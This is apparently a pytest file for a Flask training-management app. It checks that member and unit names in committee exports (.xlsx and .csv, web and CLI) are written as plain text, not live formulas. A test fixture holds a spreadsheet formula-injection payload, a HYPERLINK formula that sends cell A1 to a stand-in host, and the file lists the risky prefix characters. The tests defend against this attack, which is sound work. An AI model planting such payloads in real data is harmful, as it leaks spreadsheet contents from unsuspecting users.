"""Every download a committee can take holds names a member or a unit may have chosen: none of them
comes out as a live formula, in .xlsx or .csv, from the web or from the CLI."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import sqlalchemy as sa
from flask import Flask

from learnhub.auth.models import User
from learnhub.extensions import db
from learnhub.orgs.models import Unit
from tests.conftest import login, post
from tests.plans.test_plan_pages import create

NAME = '=HYPERLINK("http://x/?"&A1,"Bấm")'
CELL = "@Chi bộ Khu phố 1"
RISKY = ("=", "+", "-", "@", "\t", "\r")


def rename(app: Flask, town: dict) -> None:
    with app.app_context():
        db.session.get(User, town["member_a"].id).full_name = NAME
        db.session.get(User, town["propagandist"].id).full_name = "+84 Vũ Minh Tâm"
        db.session.get(Unit, town["a"].id).name = CELL
        db.session.commit()


def texts(data: bytes, fmt: str) -> list[str]:
    """Every text cell of a download, failing on any formula."""
    if fmt == "csv":
        table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        found = [field for row in table for field in row]
        assert not [f for f in found if f.startswith(RISKY) and not f.lstrip("-").replace(".", "").isdigit()]
        return found
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    return [c.value for c in cells if isinstance(c.value, str)]


def test_committee_downloads_hold_hostile_names_as_text(app: Flask, client, town, make_quiz) -> None:
    make_quiz(count=6)
    rename(app, town)
    login(client, "capuy")
    plan_id = create(client, town)
    post(client, f"/plans/{plan_id}/status", {"status": "open"})
    urls = ["/members/export.{fmt}", f"/plans/{plan_id}/export.{{fmt}}?unit={town['root'].id}",
            f"/plans/{plan_id}/missing.{{fmt}}?unit={town['root'].id}", "/inspections/propagandists.{fmt}",
            f"/inspections/evaluation.{{fmt}}?unit={town['root'].id}&year=2026"]
    seen = set()
    for url in urls:
        for fmt in ("xlsx", "csv"):
            response = client.get(url.format(fmt=fmt))
            assert response.status_code == 200, url
            if fmt == "csv":
                assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
            found = texts(response.data, fmt)
            quoted = "'" if fmt == "csv" else ""
            seen |= {(url, fmt, value) for value in (NAME, CELL, "+84 Vũ Minh Tâm")
                     if any(quoted + value in text for text in found)}
    assert {("/members/export.{fmt}", fmt, NAME) for fmt in ("xlsx", "csv")} <= seen
    assert {(urls[2], fmt, NAME) for fmt in ("xlsx", "csv")} <= seen  # the not-completed list
    assert {(urls[1], fmt, CELL) for fmt in ("xlsx", "csv")} <= seen  # a sub-unit's row
    assert {(urls[3], fmt, "+84 Vũ Minh Tâm") for fmt in ("xlsx", "csv")} <= seen


def test_plan_export_shows_rates_as_percentages(app: Flask, client, town, make_quiz) -> None:
    make_quiz(count=6)
    login(client, "capuy")
    plan_id = create(client, town)
    post(client, f"/plans/{plan_id}/status", {"status": "open"})
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"/plans/{plan_id}/export.xlsx").data)).active
    total = next(row for row in sheet.iter_rows() if row[0].value == "Tổng cộng")
    assert total[4].value == 0 and total[4].number_format == "0.0%"


def test_cli_completion_report_writes_through_the_guard(app: Flask, town, make_quiz, tmp_path: Path) -> None:
    make_quiz(count=6)
    rename(app, town)
    client = app.test_client()
    login(client, "capuy")
    plan_id = create(client, town)
    runner = app.test_cli_runner()
    printed = runner.invoke(args=["report", "completion", "--plan", str(plan_id), "--format", "csv"])
    assert printed.exit_code == 0, printed.output
    assert "'" + CELL in printed.stdout and "\n" + CELL not in printed.stdout
    out = tmp_path / "bao-cao.xlsx"
    assert runner.invoke(args=["report", "completion", "--plan", str(plan_id), "--format", "xlsx",
                               "-o", str(out)]).exit_code == 0
    assert CELL in texts(out.read_bytes(), "xlsx")
    with app.app_context():
        assert db.session.scalar(sa.select(Unit.name).where(Unit.id == town["a"].id)) == CELL
